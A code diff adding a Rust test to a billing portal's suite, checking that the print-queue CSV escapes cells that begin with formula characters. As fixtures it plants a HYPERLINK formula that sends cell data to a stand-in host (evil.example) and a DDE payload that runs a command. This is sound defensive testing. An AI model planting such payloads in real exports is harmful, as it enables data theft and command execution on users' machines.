@@ -1101,7 +1101,41 @@ on_both_databases!(
     the_pdf_is_an_attachment_that_reads_back,
     views_and_downloads_are_audited,
     a_statement_nobody_can_be_told_of_is_mailed,
+    print_queue_csv_cells_never_run_as_formulas,
 );
+
+/// Issue 14, point 9: the print queue's CSV is opened in spreadsheets, and names and addresses
+/// come from people (a record's name, an address typed at the desk). A cell that begins with
+/// `=`, `+`, `-`, `@`, a tab or a carriage return is written as text (a leading apostrophe);
+/// amounts stay numbers.
+async fn print_queue_csv_cells_never_run_as_formulas(backend: Backend) {
+    let portal = TestPortal::start(backend).await;
+    let (dora_account, dora_number) = account_of(&portal, DORA).await;
+    sqlx::query("UPDATE patients SET given_name = $1 WHERE mrn = $2")
+        .bind("=HYPERLINK(\"http://evil.example/\"&A1,\"Click\")")
+        .bind(DORA)
+        .execute(&portal.state.db.pool)
+        .await
+        .unwrap();
+    sqlx::query("UPDATE billing_accounts SET mailing_address = $1 WHERE id = $2")
+        .bind("@SUM(1+1)*cmd|' /C calc'!A0\n301 Maple Court")
+        .bind(&dora_account)
+        .execute(&portal.state.db.pool)
+        .await
+        .unwrap();
+    let billing = signed_in(&portal, "billing", "staff").await;
+    let csv = billing.get("/staff/billing/print-queue.csv").await;
+    assert_eq!(csv.status, 200);
+    let mut reader = csv::ReaderBuilder::new().from_reader(csv.body.as_bytes());
+    let row = reader.records().map(Result::unwrap).find(|r| r.get(0) == Some(dora_number.as_str())).expect("Dora's statement is queued");
+    assert_eq!(row.get(1), Some("'=HYPERLINK(\"http://evil.example/\"&A1,\"Click\") Martinez"));
+    assert_eq!(row.get(2), Some("'@SUM(1+1)*cmd|' /C calc'!A0, 301 Maple Court"));
+    assert_eq!(row.get(4), Some("210.00"), "the amount is still a number");
+    for cell in row.iter() {
+        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
+    }
+    portal.stop().await;
+}
 
 /// PostgreSQL only: on SQLite the holding transaction below would hold the one write lock and
 /// the test's own second posting would wait for it.
